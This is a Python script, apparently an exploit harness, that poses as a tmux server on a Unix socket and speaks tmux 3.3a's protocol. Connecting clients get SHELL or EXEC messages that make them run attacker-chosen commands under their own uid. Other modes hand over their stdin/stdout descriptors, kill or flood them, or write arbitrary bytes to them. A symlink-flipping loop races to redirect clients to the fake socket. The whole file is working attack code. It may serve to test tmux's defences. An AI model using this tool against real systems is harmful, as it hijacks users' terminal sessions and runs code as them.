"""A fake tmux server, and a name that leads to it every other moment: the attacker's programs, run as its uid.

`serve SOCKET DEED WORD` takes every client of tmux and answers with one deed; `flip LINK ONE OTHER` lets LINK be a link
to the one and to the other in turn, until it is killed. Messages as in tmux-protocol.h of tmux 3.3a, by imsg(3).
"""

import os
import socket
import struct
import sys
import time
from contextlib import suppress

HEADER = struct.Struct("=IHHII")  # type, length with this header, flags, peer id (the protocol's version), pid
VERSION = 8
COMMAND, DETACHKILL, EXIT, EXITED, LOCK, READY, SHELL, EXEC = 200, 202, 203, 204, 206, 207, 209, 217
WRITE_OPEN, WRITE = 303, 304
DEEDS = ("shell", "exec", "lock", "hangup", "silent", "holds", "floods", "lists")


def serve(path: str, deed: str, word: str) -> None:
    """Take clients for ever. `holds` keeps what they hand over: their stdin and stdout."""
    kept: list[int] = []
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        os.chmod(path, 0o777)
        listener.listen(64)
        print("listens", flush=True)
        while True:
            client, _ = listener.accept()
            client.settimeout(5)
            with suppress(OSError):
                _answer(client, deed, word, kept)
            if deed == "silent":
                kept.append(os.dup(client.fileno()))
            client.close()


def _answer(client: socket.socket, deed: str, word: str, kept: list[int]) -> None:
    heard = b""
    while True:  # until it says what it wants
        data, descriptors, _, _ = socket.recv_fds(client, 65536, 8)
        if deed == "holds":
            kept.extend(descriptors)
        else:
            for one in descriptors:
                os.close(one)
        heard += data
        if not data:
            return
        while len(heard) >= HEADER.size and len(heard) >= (size := HEADER.unpack_from(heard)[1]):
            kind = HEADER.unpack_from(heard)[0]
            heard = heard[size:]
            if kind == COMMAND:
                _do(client, deed, word, kept)
                return


def _do(client: socket.socket, deed: str, word: str, kept: list[int]) -> None:
    if deed == "shell":
        _say(client, SHELL, word.encode() + b"\0")
    elif deed == "exec":
        _say(client, READY)
        _say(client, EXEC, word.encode() + b"\0/bin/sh\0")
        _say(client, EXITED)
    elif deed == "lock":
        _say(client, READY)
        _say(client, LOCK, word.encode() + b"\0")
    elif deed == "hangup":
        _say(client, READY)
        _say(client, DETACHKILL, b"x\0")
        _say(client, EXITED)
    elif deed == "holds":
        _say(client, EXIT, struct.pack("=i", 0))
        time.sleep(0.2)
    elif deed == "floods":
        _say(client, WRITE_OPEN, struct.pack("=iii", 1, 1, 0) + b"\0")
        while True:
            _say(client, WRITE, struct.pack("=i", 1) + b"x" * 8000)
    elif deed == "lists":
        _say(client, WRITE_OPEN, struct.pack("=iii", 1, 1, 0) + b"\0")
        _say(client, WRITE, struct.pack("=i", 1) + word.encode().decode("unicode_escape").encode("latin-1"))
        _say(client, EXIT, struct.pack("=i", 0))
    client.settimeout(2)
    with suppress(OSError):
        while client.recv(65536):
            pass


def _say(client: socket.socket, kind: int, data: bytes = b"") -> None:
    client.sendall(HEADER.pack(kind, HEADER.size + len(data), 0, VERSION, os.getpid()) + data)


def flip(link: str, one: str, other: str) -> None:
    """Each in turn, by one rename: the name is never absent."""
    names = [f"{link}.1", f"{link}.2"]
    print("flips", flush=True)
    while True:
        for name, target in zip(names, (one, other), strict=True):
            os.symlink(target, name)
            os.rename(name, link)
            time.sleep(0.001)


if __name__ == "__main__":
    {"serve": serve, "flip": flip}[sys.argv[1]](*sys.argv[2:])
